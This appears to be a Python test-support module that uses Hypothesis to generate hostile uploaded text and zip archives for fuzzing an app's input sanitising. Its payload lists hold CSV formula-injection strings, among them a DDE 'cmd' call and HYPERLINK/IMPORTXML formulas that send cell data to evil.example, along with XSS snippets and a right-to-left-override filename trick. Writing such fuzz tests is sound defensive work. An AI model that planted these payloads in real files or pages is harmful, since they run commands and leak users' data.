"""Texts and files somebody might hand us, from section 5 of the evidence."""

import io
import zipfile

from hypothesis import strategies as st

CELL_PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1",
    "\u00a0=1", "＝1+1", "\ufeff=1", "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    '=IMPORTXML("http://evil.example","//a")',
]  # fmt: skip
HARMLESS_CELLS = [
    "-1", "-5.5", "-5,5", "3", "007", "NA", "", "Sari", 'a","=1+1', "a=b", "'s Heer",
    "1:30", "no", "a\nb",
]  # fmt: skip
HTML_PAYLOADS = [
    '<iframe srcdoc="<script>parent.x=1</script>">', "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<style>.stApp{display:none}</style>",
    "<form action=//evil><input type=password>", "![x](http://127.0.0.1:9911/b)",
    "[x](javascript:alert(1))", "Sari \u202egnp.exe",
]  # fmt: skip
NASTY = st.sampled_from([*CELL_PAYLOADS, *HARMLESS_CELLS, *HTML_PAYLOADS])
SIGNS = st.text(
    alphabet="=+-@＝＋－＠'\"`,;\t\r\n\0 \u00a0\ufeff\u200b1.aİ", max_size=12
)


def hostile_texts() -> st.SearchStrategy[str]:
    """Return payloads, mixtures of dangerous signs, and any text at all."""
    return NASTY | SIGNS | st.text(max_size=15) | st.tuples(SIGNS, NASTY).map("".join)


def zip_archive(text: bytes) -> bytes:
    """Return a text packed as a zip archive."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ratings.csv", text * 20)
    return packed.getvalue()
